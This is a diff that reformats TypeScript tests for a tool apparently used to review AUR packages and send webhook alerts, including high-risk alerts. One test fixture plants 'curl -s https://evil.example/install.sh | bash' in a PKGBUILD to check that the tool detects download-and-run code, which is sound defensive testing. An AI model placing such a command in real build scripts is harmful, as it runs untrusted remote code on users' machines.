@@ -22,7 +22,10 @@ class Receiver {
   readonly deliveries: Delivery[] = [];
   mode: 'ok' | 'error' | 'hang' = 'ok';
   private readonly hanging: ServerResponse[] = [];
-  private constructor(private readonly server: Server, readonly url: string) {}
+  private constructor(
+    private readonly server: Server,
+    readonly url: string,
+  ) {}
 
   static async start(): Promise<Receiver> {
     const server = createServer();
@@ -60,7 +63,10 @@ class Receiver {
 
 function maliciousPackage(pkgbase: string): Record<string, string> {
   const files = makePackage({ pkgbase, pkgver: '2.0.0' });
-  return { ...files, PKGBUILD: (files['PKGBUILD'] ?? '').replace('package() {\n', 'package() {\n  curl -s https://evil.example/install.sh | bash\n') };
+  return {
+    ...files,
+    PKGBUILD: (files['PKGBUILD'] ?? '').replace('package() {\n', 'package() {\n  curl -s https://evil.example/install.sh | bash\n'),
+  };
 }
 
 let upstream: TestUpstream;
@@ -71,7 +77,10 @@ beforeAll(async () => {
   [upstream, receiver] = await Promise.all([TestUpstream.start(), Receiver.start()]);
   await upstream.addPackage(makePackage({ pkgbase: 'calm' }));
   await upstream.addPackage(maliciousPackage('sneaky'));
-  aurgate = await startAurgate({ upstreamUrl: upstream.url, env: { AURGATE_WEBHOOK_URL: receiver.url, AURGATE_PUBLIC_URL: 'https://aurgate.example' } });
+  aurgate = await startAurgate({
+    upstreamUrl: upstream.url,
+    env: { AURGATE_WEBHOOK_URL: receiver.url, AURGATE_PUBLIC_URL: 'https://aurgate.example' },
+  });
 });
 
 afterAll(async () => {
@@ -83,7 +92,10 @@ describe('webhook notifications', () => {
   it('announce new pending revisions, with a separate event for high-risk flags', async () => {
     const reviews = new ReviewService(aurgate.app);
     await aurgate.app.allow(['calm', 'sneaky'], 'test');
-    const summary = await syncWithNotifications({ app: aurgate.app, notifier: createNotifier(aurgate.config, aurgate.app.logger), assess: (revision) => reviews.flags(revision) }, { trigger: 'cli' });
+    const summary = await syncWithNotifications(
+      { app: aurgate.app, notifier: createNotifier(aurgate.config, aurgate.app.logger), assess: (revision) => reviews.flags(revision) },
+      { trigger: 'cli' },
+    );
     expect(summary.newRevisions).toBe(2);
 
     const pending = receiver.events('revision.pending');
@@ -102,7 +114,9 @@ describe('webhook notifications', () => {
 
     const high = receiver.events('risk.high');
     expect(high.map((event) => event['pkgbase'])).toEqual(['sneaky']);
-    expect(high[0]?.['flags']).toEqual(expect.arrayContaining([expect.objectContaining({ check: 'download-and-run', severity: 'high', file: 'PKGBUILD', line: expect.any(Number) })]));
+    expect(high[0]?.['flags']).toEqual(
+      expect.arrayContaining([expect.objectContaining({ check: 'download-and-run', severity: 'high', file: 'PKGBUILD', line: expect.any(Number) })]),
+    );
     expect(receiver.deliveries[0]?.headers['content-type']).toBe('application/json');
   });
 
@@ -138,7 +152,9 @@ describe('webhook notifications', () => {
     const started = Date.now();
     await expect(new WebhookNotifier({ url: receiver.url, logger, timeoutMs: 300 }).send({ event: 'test', text: 'x' })).resolves.toBeUndefined();
     expect(Date.now() - started).toBeLessThan(5_000);
-    await expect(new WebhookNotifier({ url: 'http://127.0.0.1:1/nothing-listens', logger }).send({ event: 'test', text: 'x' })).resolves.toBeUndefined();
+    await expect(
+      new WebhookNotifier({ url: 'http://127.0.0.1:1/nothing-listens', logger }).send({ event: 'test', text: 'x' }),
+    ).resolves.toBeUndefined();
     receiver.mode = 'ok';
   });
 
